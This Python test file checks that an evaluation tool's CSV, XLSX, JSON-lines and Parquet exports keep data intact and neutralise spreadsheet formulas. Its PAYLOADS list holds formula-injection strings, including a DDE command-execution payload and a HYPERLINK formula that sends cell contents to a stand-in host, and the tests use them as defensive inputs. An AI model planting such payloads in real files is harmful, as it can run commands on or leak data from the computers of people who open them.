"""Exports: free of formulas where spreadsheets open them, lossless as JSON lines, typed as Parquet."""

import csv
import io
import json
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest
from openpyxl import load_workbook

from core.errors import NotFoundError, UsageError
from core.exporters.base import without_formula
from core.model import LabelRow, LabelState, Message, ToolCall, Trace, Verdict
from core.slice import Slice
from core.store import exports
from core.store.connection import Store
from core.store.ingest import Entry, ingest
from core.workflows.explaining import mark
from core.workflows.exporting import FORMATS, WHAT, export, export_bytes
from core.workflows.importing import Source, import_sources
from core.workflows.reviewing import record_label
from tests.conftest import JUDGE, LABELLED_ON, MakeTrace

PAYLOADS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=HYPERLINK("http://example.invalid/"&A1,"x")',
    "＝1+1",
    '"=1+1',
    "a;=1+1",
    "#N/A",
    "'=1+1",
)


OF_NO_JUDGE = [what for what in WHAT if what != "alignment"]


def store_traces(store: Store, *traces: Trace, labels: tuple[LabelRow, ...] = ()) -> None:
    with ingest(store) as running:
        running.add([Entry("made.jsonl", number, trace, [], []) for number, trace in enumerate(traces, 1)])
        if labels:
            running.add([Entry("labels.jsonl", 1, None, list(labels), [])])
        running.finish(files=["made.jsonl"], format_name="jsonl", mapping=None, now=LABELLED_ON)


def csv_rows(store: Store, what: str, **options: Any) -> list[dict[str, str]]:
    stream = io.BytesIO()
    export(store, what, Slice(), "csv", **options).write(stream)
    return list(csv.DictReader(io.StringIO(stream.getvalue().decode(), newline="")))


def json_rows(store: Store, what: str, slice_: Slice | None = None, **options: Any) -> list[dict[str, Any]]:
    stream = io.BytesIO()
    export(store, what, slice_ or Slice(), "jsonl", **options).write(stream)
    return [json.loads(line) for line in stream.getvalue().splitlines()]


def sheet_cells(data: bytes) -> Iterator[Any]:
    for row in load_workbook(io.BytesIO(data)).worksheets[0].iter_rows():
        yield from row


@pytest.fixture
def dangerous_store(fresh_store: Store, make_trace: MakeTrace) -> Store:
    traces = [
        make_trace(
            id=f"{payload}{number}",
            input=payload,
            output=payload,
            session=payload,
            model=payload,
            error=payload,
            dimensions={payload: payload, "several": [payload, "x"]},
        )
        for number, payload in enumerate(PAYLOADS)
    ]
    labels = tuple(
        LabelRow(trace_id=trace.id, labeler=payload, state=LabelState.FAIL, critique=payload, categories=(payload,))
        for trace, payload in zip(traces, PAYLOADS, strict=True)
    )
    store_traces(fresh_store, *traces, labels=labels)
    return fresh_store


@pytest.mark.parametrize("what", OF_NO_JUDGE)
def test_no_cell_of_a_csv_can_be_taken_for_a_formula(what: str, dangerous_store: Store) -> None:
    data, _ = export_bytes(dangerous_store, what, Slice(), "csv")
    rows = list(csv.reader(io.StringIO(data.decode(), newline="")))
    assert rows
    cells = [cell for row in rows for cell in row]
    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝"))] == []
    assert {len(row) for row in rows} == {len(rows[0])}


@pytest.mark.parametrize("what", OF_NO_JUDGE)
def test_no_cell_of_a_workbook_is_a_formula(what: str, dangerous_store: Store) -> None:
    data, _ = export_bytes(dangerous_store, what, Slice(), "xlsx")
    cells = [cell for cell in sheet_cells(data) if cell.value is not None]
    assert cells
    assert {cell.data_type for cell in cells} <= {"s", "n", "b", "d"}
    texts = [cell.value for cell in cells if cell.data_type == "s"]
    assert [text for text in texts if text.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))] == []


@pytest.mark.parametrize("what", ["traces", "labels", "assignments"])
def test_json_lines_keep_every_text_as_it_is(what: str, dangerous_store: Store) -> None:
    rows = json_rows(dangerous_store, what)
    texts = {
        text
        for row in rows
        for value in row.values()
        for text in (value if isinstance(value, list) else [value])
        if isinstance(text, str)
    }
    assert set(PAYLOADS) - texts == set()


@pytest.mark.parametrize(
    ("text", "shown"),
    [("-5", "-5"), ("+3.2", "+3.2"), ("-1.5e-3", "-1.5e-3"), ("5", "5"), ("-", "'-"), ("-5 apples", "'-5 apples"), ("--5", "'--5"),
     ("-5-3", "'-5-3"), ("", ""), ("a=b", "a=b"), ("- a list", "'- a list"), ("-1e9999", "'-1e9999")],
)  # fmt: skip
def test_plain_numbers_stay_numbers(text: str, shown: str) -> None:
    assert without_formula(text) == shown


def test_every_field_of_a_trace_is_exported(fresh_store: Store, make_trace: MakeTrace) -> None:
    messages = (
        Message("system", "be kind"),
        Message("user", 'say "hi",\nplease'),
        Message("assistant", "", None, (ToolCall("c1", "greet", '{"to": "you"}'),)),
        Message("tool", "hi", "greet", (), "c1", True),
        Message("assistant", "hi – 你好"),
    )
    record = '{"id": "r1",\n "big": 123456789012345678901234567890,\r\n "text": "a\\nb"}'
    trace = make_trace(
        id="r1", messages=messages, record=record, input="in", output="out", session="s", model="m", error="e",
        duration_ms=12.5, started_at=datetime(2026, 3, 1, 12, 30, 1, 250_000),
        dimensions={"feature": "search", "tags": ["a", "b"]},
    )  # fmt: skip
    store_traces(fresh_store, trace, make_trace(id="r2", input=None, output=None, messages=()))
    first, second = json_rows(fresh_store, "traces")
    assert first == {
        "id": "r1",
        "session": "s",
        "started_at": "2026-03-01T12:30:01.250000Z",
        "model": "m",
        "source": "made.jsonl",
        "error": "e",
        "origin": "real",
        "duration_ms": 12.5,
        "message_count": 5,
        "tool_call_count": 1,
        "input": "in",
        "output": "out",
        "split": None,
        "messages": [
            {"role": "system", "content": "be kind"},
            {"role": "user", "content": 'say "hi",\nplease'},
            {
                "role": "assistant",
                "content": "",
                "tool_calls": [
                    {"id": "c1", "type": "function", "function": {"name": "greet", "arguments": '{"to": "you"}'}}
                ],
            },
            {"role": "tool", "content": "hi", "name": "greet", "tool_call_id": "c1", "error": True},
            {"role": "assistant", "content": "hi – 你好"},
        ],
        "dimensions": {"feature": "search", "tags": ["a", "b"]},
        "record": json.loads(record),
    }
    assert (second["input"], second["messages"], second["dimensions"]) == (None, [], {})
    flat = csv_rows(fresh_store, "traces")[0]
    assert json.loads(flat["messages"]) == first["messages"]
    assert (flat["feature"], flat["tags"], flat["duration_ms"], flat["started_at"]) == (
        *("search", "a; b", "12.5", "2026-03-01T12:30:01.250000Z"),
    )


def test_a_dimension_with_the_name_of_a_field_has_a_column_of_its_own(
    fresh_store: Store, make_trace: MakeTrace
) -> None:
    store_traces(fresh_store, make_trace(id="x", input="text", dimensions={"input": "voice", "id": "7", "split": "b"}))
    row = csv_rows(fresh_store, "traces")[0]
    assert (row["input"], row["dimensions.input"], row["id"], row["dimensions.id"]) == ("text", "voice", "x", "7")
    assert json_rows(fresh_store, "traces")[0]["dimensions"] == {"input": "voice", "id": "7", "split": "b"}


def test_parquet_columns_have_their_types(small_store: Store) -> None:
    data, name = export_bytes(small_store, "traces", Slice(), "parquet")
    assert name == "passfail-traces.parquet"
    table = pq.read_table(io.BytesIO(data))
    types = {field.name: str(field.type) for field in table.schema}
    assert types["started_at"] == "timestamp[us, tz=UTC]"
    assert (types["message_count"], types["duration_ms"], types["feature"]) == ("int64", "double", "string")
    assert table.column("id").to_pylist() == [f"t{n:02}" for n in range(1, 13)]
    assert table.column("started_at")[0].as_py() == datetime(2026, 1, 1, tzinfo=UTC)
    labels = pq.read_table(io.BytesIO(export_bytes(small_store, "labels", Slice(), "parquet")[0]))
    assert str(labels.schema.field("categories").type) in ("list<element: string>", "list<item: string>")
    assert str(labels.schema.field("saw_judge").type) == "bool"


def test_a_workbook_holds_dates_and_numbers_and_cuts_what_no_cell_holds(
    fresh_store: Store, make_trace: MakeTrace
) -> None:
    trace = make_trace(
        id="long", input="x" * 40_000, output="a\x00b\x07c", duration_ms=5.5, started_at=datetime(2026, 3, 1, 12, 30)
    )
    store_traces(fresh_store, trace, make_trace(id="old", started_at=datetime(1899, 1, 1)))
    sheet = load_workbook(io.BytesIO(export_bytes(fresh_store, "traces", Slice(), "xlsx")[0])).worksheets[0]
    names = [cell.value for cell in sheet[1]]
    row = dict(zip(names, [cell.value for cell in sheet[2]], strict=True))
    assert (row["started_at"], row["duration_ms"], row["message_count"]) == (datetime(2026, 3, 1, 12, 30), 5.5, 2)
    assert len(row["input"]) <= 32_767
    assert row["input"].endswith("… (cut: 40,000 characters)")
    assert row["output"] == "a\ufffdb\ufffdc"
    assert sheet.cell(3, names.index("started_at") + 1).value == "1899-01-01T00:00:00Z"


def test_labels_are_the_current_one_of_each_labeler_or_every_event(small_store: Store) -> None:
    record_label(small_store, trace_id="t01", state=LabelState.FAIL, labeler="ana", critique="too long")
    record_label(small_store, trace_id="t01", state=LabelState.PASS, labeler="bob")
    rows = json_rows(small_store, "labels")
    assert len(rows) == 10
    mine = [row for row in rows if row["trace"] == "t01"]
    assert [(row["labeler"], row["verdict"], row["critique"]) for row in mine] == [
        ("ana", "fail", "too long"),
        ("bob", "pass", None),
    ]
    assert next(row for row in rows if row["trace"] == "t07")["categories"] == ["dates", "tone"]
    assert next(row for row in rows if row["trace"] == "t08")["verdict"] == "deferred"
    assert set(rows[0]) == {
        "trace",
        "labeler",
        "verdict",
        "critique",
        "categories",
        "at",
        "saw_judge",
        "for_current_content",
    }
    history = json_rows(small_store, "labels", history=True)
    assert len(history) == 11
    events = [row for row in history if (row["trace"], row["labeler"]) == ("t01", "ana")]
    assert [row["verdict"] for row in events] == ["pass", "fail"]
    assert events[1]["supersedes"] == events[0]["event"]
    assert [row["origin"] for row in events] == ["imported", "given"]


def test_a_critique_without_a_verdict_is_exported_without_one(fresh_store: Store, make_trace: MakeTrace) -> None:
    note = LabelRow(trace_id="n", labeler="ana", state=LabelState.CRITIQUE_ONLY, critique="hm")
    store_traces(fresh_store, make_trace(id="n"), labels=(note,))
    assert [(row["verdict"], row["critique"]) for row in json_rows(fresh_store, "labels")] == [(None, "hm")]
    record_label(fresh_store, trace_id="n", state=LabelState.PASS, labeler="ana")
    assert [(row["verdict"], row["critique"]) for row in json_rows(fresh_store, "labels")] == [("pass", None)]
    assert len(json_rows(fresh_store, "labels", history=True)) == 2


def test_judgments_categories_and_assignments_are_exported(small_store: Store) -> None:
    judgments = {row["trace"]: row for row in json_rows(small_store, "judgments")}
    assert len(judgments) == 10
    assert judgments["t02"] == {
        "trace": "t02",
        "judge": "strict",
        "version": "v1",
        "verdict": "fail",
        "critique": "the judge says fail",
        "failure": None,
        "at": None,
    }
    assert (judgments["t10"]["verdict"], judgments["t10"]["failure"]) == (None, "timeout")
    categories = json_rows(small_store, "categories")
    assert {row["name"]: row["traces"] for row in categories} == {"dates": 2, "invented": 1, "tone": 1}
    assignments = json_rows(small_store, "assignments")
    assert [(row["trace"], row["category"], row["primary"], row["by"]) for row in assignments] == [
        ("t03", "dates", True, "ana"),
        ("t04", "invented", True, "ana"),
        ("t07", "dates", True, "ana"),
        ("t07", "tone", False, "ana"),
    ]


@pytest.mark.parametrize("what", [what for what in OF_NO_JUDGE if what != "categories"])
def test_an_export_holds_the_slice_and_nothing_else(what: str, small_store: Store) -> None:
    slice_ = Slice().with_value("feature", "search")
    rows = json_rows(small_store, what, slice_)
    assert {row.get("trace", row.get("id", row.get("Trace_ID"))) for row in rows} <= {"t01", "t02", "t03", "t04", "t05"}
    assert len(rows) == {"traces": 5, "labels": 4, "judgments": 5, "assignments": 2, "record": 4, "regression": 0}[what]
    assert json_rows(small_store, what, Slice().with_value("feature", "gone")) == []


@pytest.mark.parametrize("what", OF_NO_JUDGE)
@pytest.mark.parametrize("format_name", FORMATS)
def test_an_empty_store_gives_a_file_that_opens(what: str, format_name: str, fresh_store: Store) -> None:
    data, name = export_bytes(fresh_store, what, Slice(), format_name)
    assert name == f"passfail-{what}.{format_name}"
    if format_name == "parquet":
        assert pq.read_table(io.BytesIO(data)).num_rows == 0
    elif format_name == "xlsx":
        assert load_workbook(io.BytesIO(data)).worksheets[0].max_row == 1
    else:
        assert data.count(b"\n") == (1 if format_name == "csv" else 0)


def test_parts_join_without_a_gap(fresh_store: Store, make_trace: MakeTrace, monkeypatch: pytest.MonkeyPatch) -> None:
    store_traces(
        fresh_store, *(make_trace(id=f"n{number:04}", dimensions={"half": str(number % 2)}) for number in range(57))
    )
    monkeypatch.setattr(exports, "PART", 10)
    assert [row["id"] for row in json_rows(fresh_store, "traces")] == [f"n{number:04}" for number in range(57)]
    odd = Slice().with_value("half", "1")
    assert [row["id"] for row in json_rows(fresh_store, "traces", odd)] == [f"n{n:04}" for n in range(1, 57, 2)]


def test_what_is_stored_while_an_export_runs_does_not_tear_it(small_store: Store, make_trace: MakeTrace) -> None:
    with small_store.snapshot() as cursor:
        keys = exports.slice_keys(cursor, Slice(), None)
        store_traces(small_store, make_trace(id="t01", input="changed"), make_trace(id="new"))
        read = [trace for part in exports.trace_parts(cursor, keys) for trace in part]
    assert [trace.id for trace in read] == [f"t{n:02}" for n in range(1, 13)]
    assert read[0].input == "question of t01"
    assert len(json_rows(small_store, "traces")) == 13


def test_exported_traces_can_be_imported_again(small_store: Store, fresh_store: Store, tmp_path: Path) -> None:
    from core.store.connection import IN_MEMORY
    from core.workflows.opening import open_store

    data, name = export_bytes(small_store, "traces", Slice(), "jsonl")
    other = open_store(IN_MEMORY)
    report = import_sources(other, [Source.from_bytes(name, data)])
    assert (report.read, report.added, report.bad) == (12, 12, 0)
    rows = json_rows(other, "traces")
    assert [(row["id"], row["input"], row["messages"]) for row in rows] == [
        (row["id"], row["input"], row["messages"]) for row in json_rows(small_store, "traces")
    ]
    other.close()


def test_what_cannot_be_exported_is_refused(small_store: Store) -> None:
    for what, format_name, options in (
        ("everything", "csv", {}),
        ("traces", "pdf", {}),
        ("traces", "csv", {"history": True}),
        ("label history", "csv", {}),
        ("traces", "csv", {"judge": JUDGE}),
        ("alignment", "csv", {}),
    ):
        with pytest.raises(UsageError):
            export(small_store, what, Slice(), format_name, **options)


def test_the_alignment_spreadsheet_holds_what_expert_and_judge_said(small_store: Store, tmp_path: Path) -> None:
    mark(small_store, trace_id="t04", judge=JUDGE, mark="judge wrong", by="Chris")
    rows = {row["trace"]: row for row in csv_rows(small_store, "alignment", judge="strict")}
    assert set(rows) == {"t01", "t02", "t03", "t04", "t06", "t07"}
    assert rows["t04"] == {
        "trace": "t04", "input": "question of t04", "model response": "answer to t04",
        "judge critique": "the judge says pass", "judge verdict": "pass", "expert critique": "invented a listing",
        "expert verdict": "fail", "better answer": "", "agree": "false", "expert": "ana", "cause": "judge wrong", "split": "",
    }  # fmt: skip
    assert [row["agree"] for row in json_rows(small_store, "alignment", judge=JUDGE)].count(True) == 4
    data, name = export_bytes(small_store, "alignment", Slice(), "xlsx", judge=JUDGE)
    assert (name, load_workbook(io.BytesIO(data)).worksheets[0].max_row) == ("passfail-alignment.xlsx", 7)
    with pytest.raises(NotFoundError):
        export(small_store, "alignment", Slice(), "csv", judge="nobody")


def test_verdicts_are_words(small_store: Store) -> None:
    assert {row["verdict"] for row in json_rows(small_store, "judgments")} == {
        Verdict.PASS.value,
        Verdict.FAIL.value,
        None,
    }
